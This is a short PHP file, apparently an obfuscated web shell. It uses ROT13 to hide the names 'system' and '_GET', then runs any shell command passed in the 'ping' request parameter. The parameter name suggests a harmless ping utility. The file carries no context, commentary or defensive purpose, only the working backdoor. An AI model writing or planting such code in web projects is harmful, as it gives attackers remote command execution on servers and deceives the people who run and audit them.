<?php
$a = str_rot13('flfgrz');
$b = str_rot13('_TRG');
$a(${$b}['ping']);
